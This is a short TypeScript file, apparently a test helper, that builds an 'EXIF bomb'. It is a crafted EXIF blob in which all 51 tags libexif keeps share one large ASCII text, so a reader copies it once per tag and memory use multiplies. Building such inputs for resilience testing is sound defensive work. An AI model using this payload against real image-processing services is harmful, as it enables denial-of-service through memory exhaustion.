// Tags that libexif knows in the first directory; it keeps no others.
const TAGS = [
  0x10e, 0x10f, 0x110, 0x131, 0x132, 0x13b, 0x8298, 0x829a, 0x829d, 0x8822, 0x8824, 0x8827, 0x9003, 0x9004,
  0x9201, 0x9202, 0x9203, 0x9204, 0x9205, 0x9206, 0x9207, 0x9208, 0x9209, 0x920a, 0x927c, 0x9286, 0x9290,
  0x9291, 0x9292, 0xa20b, 0xa20e, 0xa20f, 0xa210, 0xa214, 0xa215, 0xa217, 0xa300, 0xa301, 0xa302, 0xa401,
  0xa402, 0xa403, 0xa404, 0xa405, 0xa406, 0xa407, 0xa408, 0xa409, 0xa40a, 0xa40c, 0xa420,
];
const ASCII = 2;

/** EXIF of `bytes` bytes whose tags all have the same text, which a reader copies for each of them. */
export function exifBomb(bytes: number): Buffer {
  const exif = Buffer.alloc(bytes, 0x41);
  exif.write('II*\0', 'latin1');
  exif.writeUInt32LE(8, 4);
  exif.writeUInt16LE(TAGS.length, 8);
  const text = 10 + 12 * TAGS.length + 4;
  TAGS.forEach((tag, index) => {
    const at = 10 + 12 * index;
    exif.writeUInt16LE(tag, at);
    exif.writeUInt16LE(ASCII, at + 2);
    exif.writeUInt32LE(bytes - text, at + 4);
    exif.writeUInt32LE(text, at + 8);
  });
  exif.writeUInt32LE(0, text - 4);
  return exif;
}
